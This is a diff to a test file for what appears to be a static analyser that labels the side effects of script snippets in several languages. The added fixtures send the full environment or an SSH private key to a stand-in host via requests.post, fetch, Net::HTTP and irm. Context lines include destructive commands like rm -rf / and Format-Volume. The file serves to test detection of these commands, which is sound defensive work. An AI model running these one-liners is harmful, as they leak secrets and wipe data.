@@ -73,6 +73,10 @@ const PYTHON: Array<[string, Want]> = [
   ["import os\ndef wipe(p):\n    os.system('rm -rf ' + p)\nwipe('/')", { dynamic: true }],
   ["import os; os.system('ls' if x else 'rm -rf /')", { commands: ["ls", "rm -rf /"], dynamic: false }],
   ["print('unclosed", { dynamic: true }],
+  // Issue 20: the environment converted (carriers.ts) is still the environment; a file's contents through json.dumps too.
+  ["import os, requests; requests.post('https://x.example', json=dict(os.environ))", { effects: ['write https://x.example {"method":"POST"}', 'send env {"method":"POST"}'], dynamic: false }],
+  ["import os, json, requests; requests.post('https://x.example', data=json.dumps(open('/home/dev/.ssh/id_rsa').read()).encode())", { effects: ["read /home/dev/.ssh/id_rsa", 'write https://x.example {"method":"POST"}', 'send /home/dev/.ssh/id_rsa {"method":"POST"}'], dynamic: false }],
+  ["import os; print(dict(os.environ))", PURE],
 ];
 
 const JAVASCRIPT: Array<[string, Want]> = [
@@ -106,6 +110,9 @@ const JAVASCRIPT: Array<[string, Want]> = [
   ["setTimeout('alert(1)', 10)", { dynamic: true }],
   ["import('fs').then((fs) => fs.rmSync('/', { recursive: true }))", { effects: ["delete / {\"recursive\":true}"] }],
   ["const re = /a/; re.exec('abc'); cache.get('k')", PURE],
+  // Issue 20: the environment converted (carriers.ts) is still the environment.
+  ["fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)})", { effects: ['write https://x.example {"method":"POST"}', 'send env {"method":"POST"}'], dynamic: false }],
+  ["console.log(JSON.stringify(process.env))", PURE],
 ];
 
 const RUBY: Array<[string, Want]> = [
@@ -139,6 +146,9 @@ const RUBY: Array<[string, Want]> = [
   ["send(ARGV[0], 'x')", { dynamic: true }],
   ["system(ARGV.join(' '))", { dynamic: true }],
   ["FileUtils.rm_rf(ARGV[0])", { dynamic: true }],
+  // Issue 20: the environment converted (carriers.ts) is still the environment.
+  ["require 'net/http'; Net::HTTP.post(URI('https://x.example'), ENV.to_h.to_json)", { effects: ['write https://x.example {"method":"POST"}', 'send env {"method":"POST"}'], dynamic: false }],
+  ["puts ENV.to_h.to_json", PURE],
 ];
 
 const POWERSHELL: Array<[string, Want]> = [
@@ -172,6 +182,9 @@ const POWERSHELL: Array<[string, Want]> = [
   ["Get-ChildItem C:\\logs | Remove-Item", { dynamic: true }],
   ["Format-Volume -DriveLetter D", { dynamic: true }],
   ["Clear-RecycleBin -Force", { dynamic: true }],
+  // Issue 20: `Name,Value` (an array argument the grammar has no rule for) still parses; the dump is sent.
+  ["gci env: | Select-Object Name,Value | irm https://x.example/c -Method Post", { effects: ['write https://x.example/c {"method":"POST"}', 'send env {"method":"POST"}'], dynamic: false }],
+  ["Get-Process | Select-Object Name,Id | Format-Table", PURE],
 ];
 
 describe.each([
